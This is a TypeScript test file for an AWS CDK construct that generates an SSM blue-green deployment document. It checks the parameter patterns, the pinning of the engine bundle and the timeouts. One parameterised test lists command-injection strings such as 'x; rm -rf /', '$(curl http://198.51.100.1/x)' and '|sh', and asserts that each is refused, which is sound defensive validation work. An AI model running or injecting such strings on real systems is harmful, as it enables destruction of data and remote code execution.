import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { App, Duration, Stack } from 'aws-cdk-lib';
import { Match, Template } from 'aws-cdk-lib/assertions';
import { describe, expect, test } from 'vitest';
import { DOCUMENT_ACTIONS, DOCUMENT_PARAMS, MAX_HEALTH_TIMEOUT_SECONDS } from '../../lib/contract.js';
import { DeployDocument, type DocumentEngine } from '../../lib/constructs/deploy-document.js';
import { DOCUMENT_LOCK_WAIT_SECONDS } from '../../lib/deploy/timeouts.js';
import { engineTreeHash } from '../../lib/engine-bundle.js';
import { projectPath } from '../../lib/paths.js';
import { documentContent, onlyResource, resolvePseudo, synthesize } from './synth.js';

// GIVEN the stack as cdk.json configures it, and its document's content as SSM receives it.
const { template, stack } = synthesize();
const content = documentContent(template) as {
  schemaVersion: string;
  parameters: Record<string, { type: string; description: string; allowedPattern: string; default: string; interpolationType: string; allowedValues?: string[] }>;
  mainSteps: Array<{ action: string; name: string; precondition: unknown; inputs: { timeoutSeconds: string; runCommand: string[] } }>;
};
const step = content.mainSteps[0]!;

function accepts(parameter: string, value: string): boolean {
  return new RegExp(content.parameters[parameter]!.allowedPattern).test(value);
}

describe('document', () => {
  test('is a schema 2.2 Command document running one aws:runShellScript step on Linux instances', () => {
    template.hasResourceProperties('AWS::SSM::Document', {
      DocumentType: 'Command',
      DocumentFormat: 'JSON',
      TargetType: '/AWS::EC2::Instance',
      UpdateMethod: 'NewVersion',
      Content: Match.objectLike({ schemaVersion: '2.2', description: Match.stringLikeRegexp('deploy.*rollback.*status') }),
    });
    expect(content.mainSteps).toHaveLength(1);
    expect(step).toMatchObject({ action: 'aws:runShellScript', precondition: { StringEquals: ['platformType', 'Linux'] } });
  });

  test('has exactly the contract parameters, each a described String with a pattern that reaches the script as SSM_<name>', () => {
    expect(Object.keys(content.parameters).sort()).toEqual(Object.values(DOCUMENT_PARAMS).sort());
    for (const parameter of Object.values(content.parameters)) {
      expect(parameter).toMatchObject({ type: 'String', interpolationType: 'ENV_VAR' });
      expect(parameter.description.length).toBeGreaterThan(10);
      expect(parameter.allowedPattern).toMatch(/^\^/);
      expect(new RegExp(parameter.allowedPattern).test(parameter.default)).toBe(true);
    }
    expect(content.parameters.action).toMatchObject({ allowedValues: [...DOCUMENT_ACTIONS], default: 'status' });
    expect(content.parameters.healthTimeout!.default).toBe('120');
  });

  test('the step runs assets/ssm/bluegreen-document.sh with its placeholders filled, and splices nothing', () => {
    const source = readFileSync(projectPath('assets', 'ssm', 'bluegreen-document.sh'), 'utf8').trimEnd().split('\n');
    expect(step.inputs.runCommand).toHaveLength(source.length);
    expect(step.inputs.runCommand[0]).toBe('#!/usr/bin/env bash');
    const script = step.inputs.runCommand.join('\n');
    expect(script).not.toMatch(/@@[A-Z0-9_]+@@/);
    // `{{ name }}` is what older agents would splice into the shell text.
    expect(script).not.toContain('{{');
    expect(script).toContain("readonly CLOUD_INIT_WAIT_SECONDS='900'");
    expect(script).toContain(`readonly LOCK_WAIT_SECONDS='${DOCUMENT_LOCK_WAIT_SECONDS}'`);
  });

  test('the execution timeout fits the cloud-init wait, the deploy-lock wait, the longest health timeout and the transfer', () => {
    expect(Number(step.inputs.timeoutSeconds)).toBe(900 + DOCUMENT_LOCK_WAIT_SECONDS + MAX_HEALTH_TIMEOUT_SECONDS + 300);
  });

  test('command output goes to a log group that keeps it for a month', () => {
    const logGroupId = Object.keys(template.findResources('AWS::Logs::LogGroup')).find((id) => id.startsWith('DeployDocument'));
    expect(template.toJSON().Resources[logGroupId!].Properties).toEqual({ RetentionInDays: 30 });
  });
});

describe("the stack's engine, pinned in the document", () => {
  const stackEngineUri = resolvePseudo(stack.resolve(stack.host!.engineAsset.s3ObjectUrl)) as string;
  const script = step.inputs.runCommand;

  test('the script carries the location of the engine asset and the content hash of assets/instance', () => {
    expect(stackEngineUri).toMatch(/^s3:\/\/cdk-[a-z0-9]+-assets-111111111111-us-east-1\/[0-9a-f]{64}\.zip$/);
    expect(script).toContain(`readonly ENGINE_URI='${stackEngineUri}'`);
    expect(script).toContain(`readonly ENGINE_HASH='${engineTreeHash(projectPath('assets', 'instance'))}'`);
  });

  test('no caller passes a hash: the document has no engineHash parameter', () => {
    expect(Object.keys(content.parameters)).not.toContain('engineHash');
    expect(script.join('\n')).not.toContain('SSM_engineHash');
  });

  test("engineUri admits nothing but empty and the stack's own bundle, and says which that is", () => {
    expect(accepts('engineUri', '')).toBe(true);
    expect(accepts('engineUri', stackEngineUri)).toBe(true);
    const [, bucket, key] = /^s3:\/\/([^/]+)\/(.+)$/.exec(stackEngineUri)!;
    for (const other of [
      `s3://${bucket}/other.zip`,
      `s3://${bucket}/${key.replace('.zip', 'xzip')}`,
      `s3://someone-elses-bucket/${key}`,
      `${stackEngineUri}.zip`,
      `x${stackEngineUri}`,
      '/tmp/engine.zip',
      'https://example.com/engine.zip',
    ]) {
      expect(accepts('engineUri', other), other).toBe(false);
    }
    expect(content.parameters.engineUri!.description).toContain(stackEngineUri);
  });

  test('a new engine is a new document: the content differs with the hash', () => {
    const engine = (hash: string): DocumentEngine => ({ bucketName: 'bucket', objectKey: 'engine.zip', hash });
    const contentWith = (hash: string) => {
      const other = new Stack(new App(), 'Test');
      new DeployDocument(other, 'Document', { engine: engine(hash) });
      return JSON.stringify(onlyResource(Template.fromStack(other), 'AWS::SSM::Document').properties.Content);
    };
    expect(contentWith('a'.repeat(64))).not.toBe(contentWith('b'.repeat(64)));
  });

  test('the document is a new resource once, so that CloudFormation deletes every version from before the pin', () => {
    // Those versions installed any bundle a caller named; SendCommand runs any version it is given.
    expect(onlyResource(template, 'AWS::SSM::Document').logicalId).not.toBe('DeployDocument8C670017');
    expect(onlyResource(template, 'AWS::SSM::Document').logicalId).toMatch(/^DeployDocumentPinnedEngine[0-9A-F]{8}$/);
  });

  test('a document without an engine installs none: engineUri admits only empty', () => {
    const other = new Stack(new App(), 'Test');
    new DeployDocument(other, 'Document');
    const bare = onlyResource(Template.fromStack(other), 'AWS::SSM::Document').properties.Content as typeof content;
    expect(bare.parameters.engineUri!.allowedPattern).toBe('^$');
    expect(bare.mainSteps[0]!.inputs.runCommand).toContain("readonly ENGINE_URI=''");
    expect(bare.mainSteps[0]!.inputs.runCommand).toContain("readonly ENGINE_HASH=''");
  });
});

describe('parameter patterns', () => {
  test.each([
    ['x; rm -rf /'],
    ['$(touch /tmp/pwned)'],
    ['s3://bucket/$(curl http://198.51.100.1/x)'],
    ['s3://bucket/`id`.jar'],
    ["s3://bucket/it's.jar"],
    ['s3://bucket/a b.jar'],
    ['https://example.com/app.jar;reboot'],
    ['https://example.com/app.jar|sh'],
    ['http://example.com/app.jar'],
    ['ftp://example.com/app.jar'],
    ['relative/app.jar'],
    ['/opt/app.jar\nreboot'],
  ])('artifactUri refuses %j', (value) => {
    expect(accepts('artifactUri', value)).toBe(false);
  });

  test.each([
    [''],
    ['s3://cdk-hnb659fds-assets-111111111111-eu-west-1/0f1e2d.jar'],
    ['https://my-bucket.s3.eu-west-1.amazonaws.com/app.jar?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIA%2F20250101&X-Amz-Signature=abc123'],
    ['/var/lib/jenkins/workspace/app/build/libs/app-1.2.3.jar'],
  ])('artifactUri accepts %j', (value) => {
    expect(accepts('artifactUri', value)).toBe(true);
  });

  test('sha256 takes 64 lower-case hex digits or nothing', () => {
    expect(accepts('sha256', 'a'.repeat(64))).toBe(true);
    expect(accepts('sha256', '')).toBe(true);
    expect(accepts('sha256', 'A'.repeat(64))).toBe(false);
    expect(accepts('sha256', `${'a'.repeat(64)}; id`)).toBe(false);
  });

  test('version takes a release label or nothing', () => {
    expect(accepts('version', '1.2.3+build.4')).toBe(true);
    expect(accepts('version', '')).toBe(true);
    expect(accepts('version', '$(id)')).toBe(false);
    expect(accepts('version', 'a'.repeat(65))).toBe(false);
  });

  test('healthTimeout takes 1 to 999 seconds', () => {
    expect(['1', '120', '999'].map((value) => accepts('healthTimeout', value))).toEqual([true, true, true]);
    expect(['0', '1000', '', '-1', '1e3'].map((value) => accepts('healthTimeout', value))).toEqual([false, false, false, false, false]);
  });

  test('action takes deploy, rollback, status or history', () => {
    expect(DOCUMENT_ACTIONS.map((action) => accepts('action', action))).toEqual([true, true, true, true]);
    expect(accepts('action', 'deploy; reboot')).toBe(false);
  });
});

describe('misuse', () => {
  test('fails if the health timeout default is outside 1..999 or not whole seconds', () => {
    const stack = new Stack(new App(), 'Test');
    expect(() => new DeployDocument(stack, 'Document', { healthTimeout: Duration.seconds(1000) })).toThrow(
      /DeployDocument: healthTimeout must be whole seconds from 1 to 999, got 16 minutes 40 seconds = 1000 seconds/,
    );
    expect(() => new DeployDocument(stack, 'Fractional', { healthTimeout: Duration.millis(1500) })).toThrow(
      /DeployDocument: healthTimeout must be whole seconds from 1 to 999, got 1 second 500 millis = 1.5 seconds/,
    );
  });

  test('fails if the script does not read every parameter', () => {
    const dir = mkdtempSync(join(tmpdir(), 'bluegreen-doc-'));
    const script = join(dir, 'script.sh');
    writeFileSync(
      script,
      "#!/usr/bin/env bash\nreadonly WAIT='@@CLOUD_INIT_WAIT_SECONDS@@'\nreadonly LOCK='@@LOCK_WAIT_SECONDS@@'\nreadonly LIMIT='@@HISTORY_LIMIT@@'\n" +
        "readonly DIR='@@ENGINE_DIR@@'\nreadonly UNIT='@@SLOT_UNIT@@'\nreadonly URI='@@ENGINE_URI@@'\nreadonly HASH='@@ENGINE_HASH@@'\n" +
        'echo "$SSM_action"\n',
    );
    const stack = new Stack(new App(), 'Test');
    expect(() => new DeployDocument(stack, 'Document', { scriptPath: script })).toThrow(
      /never reads SSM_artifactUri, SSM_sha256, SSM_version, SSM_healthTimeout, SSM_engineUri$/,
    );
  });

  test.each<[string, DocumentEngine, RegExp]>([
    ['a hash that is not 64 hex digits', { bucketName: 'bucket', objectKey: 'engine.zip', hash: 'abc' }, /engine\.hash "abc" is not 64 lower-case hex digits/],
    ['a location that is no S3 object', { bucketName: 'Not A Bucket', objectKey: 'engine.zip', hash: 'a'.repeat(64) }, /"s3:\/\/Not A Bucket\/engine\.zip" is not an s3:\/\/BUCKET\/KEY/],
  ])('fails on an engine with %s', (_case, engine, message) => {
    expect(() => new DeployDocument(new Stack(new App(), 'Test'), 'Document', { engine })).toThrow(message);
  });

  test('a custom health-timeout default shows in the parameter; the execution timeout stays sized for the longest', () => {
    const stack = new Stack(new App(), 'Test');
    const custom = new DeployDocument(stack, 'Document', { healthTimeout: Duration.minutes(5) });
    expect(custom.executionTimeout.toSeconds()).toBe(900 + DOCUMENT_LOCK_WAIT_SECONDS + 999 + 300);
    Template.fromStack(stack).hasResourceProperties('AWS::SSM::Document', {
      Content: Match.objectLike({ parameters: Match.objectLike({ healthTimeout: Match.objectLike({ default: '300' }) }) }),
    });
  });
});
